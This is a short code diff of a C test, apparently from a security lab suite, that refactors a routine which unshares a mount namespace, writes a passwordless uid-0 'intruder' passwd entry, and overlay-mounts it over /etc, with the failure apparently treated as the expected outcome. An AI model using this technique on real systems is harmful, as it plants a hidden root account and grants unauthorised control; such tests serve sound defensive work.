@@ -9,15 +9,16 @@
 
 #include "attack.h"
 #include "files.h"
+#include "mounts.h"
 
 void attack(void)
 {
 	if (unshare(CLONE_NEWNS))
 		broken("unshare");
-	make_tmpfs("/tmp/lab-upper");
+	mount_new("tmpfs", "/tmp/lab-upper");
 	make_directory("/tmp/lab-upper/upper");
 	make_directory("/tmp/lab-upper/work");
-	drop_text("intruder::0:0::/:/bin/sh\n", "/tmp/lab-upper/upper/passwd");
+	drop_text(INTRUDER_ENTRY, "/tmp/lab-upper/upper/passwd");
 	if (mount("none", "/etc", "overlay", 0,
 		  "lowerdir=/etc,upperdir=/tmp/lab-upper/upper,workdir=/tmp/lab-upper/work"))
 		no_effect(errno);
